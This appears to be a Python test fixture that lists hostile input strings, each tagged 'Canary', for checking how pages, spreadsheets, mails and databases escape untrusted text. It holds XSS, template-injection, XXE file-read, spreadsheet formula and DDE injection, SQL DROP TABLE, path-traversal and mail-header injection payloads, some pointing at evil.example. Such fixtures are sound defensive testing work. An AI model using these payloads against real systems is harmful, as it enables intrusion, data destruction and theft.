"""Texts that do harm where a page, a table, a mail or a letter takes them for more than text.

Each holds ``MARK``, so that a test finds it again wherever it ends up.
"""

from typing import Final

MARK: Final = "Canary"

HOSTILE_STRINGS: Final = (
    # markup of a page
    f"<script>alert('{MARK}')</script>",
    f'"><svg onload=alert(1)>{MARK}',
    f"'><img src=x onerror=alert(1)>{MARK}",
    f'" onmouseover="alert(1)" x="{MARK}',
    f"' autofocus onfocus='alert(1) {MARK}",
    f"</textarea><b>{MARK}</b>",
    f"</title></head><body>{MARK}",
    f"</td></tr></table><iframe src=//evil.example>{MARK}",
    f"<!-- {MARK} --><![CDATA[x]]>",
    f"javascript:alert('{MARK}')",
    f"<a href=javascript:alert(1)>{MARK}</a>",
    f"<form action=//evil.example>{MARK}<input>",
    f"<style>*{{display:none}}</style>{MARK}",
    f"&lt;b&gt;&amp;&#60;{MARK}&quot;",
    f"`${{alert(1)}}`{MARK}",
    # languages of templates and formats
    "{{7*7}}{{config}}" + MARK,
    "{% include '/etc/passwd' %}" + MARK,
    "${7*7}#{7*7}" + MARK,
    "{0.__class__}{name!r}%(x)s%s%n" + MARK,
    f'#read("/etc/passwd") {MARK}',
    f"#import x: * {MARK} $ sum $ *b* _i_",
    f"\\u{{41}} = {MARK} // @label <tag>",
    f"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>{MARK}",
    # tables
    f"=HYPERLINK('//evil.example','{MARK}')",
    f"+cmd|'/C calc'!A0 {MARK}",
    f"-2+3+{MARK}",
    f"@SUM(1+1)*{MARK}",
    f"\t=1+1 {MARK}",
    f"\uff1d1+1 {MARK}",
    f'a","=1+1","{MARK}',
    # databases, files, heads of mails, logs
    f"'; DROP TABLE patient; -- {MARK}",
    f"%' OR 1=1 {MARK} _%",
    f"../../etc/passwd {MARK}",
    f"..\\..\\{MARK}.exe",
    f"{MARK}\r\nBcc: all@evil.example",
    f"{MARK}\nSet-Cookie: a=b",
    # characters
    f"\u202e{MARK}\u202c\u2066x\u2069",
    f"{MARK}\u200b\u200d\ufeff\u00ad",
    f"{MARK}\x00\x07\x1b[31m\x7f",
    f"{MARK} \U0001f469\u200d\u2695\ufe0f \u0130\u0131 \ufdfd e\u0301",
    f"{MARK}*~:^|>ISA*00*ST*835~",
    MARK + " overlong" * 2_000,
)
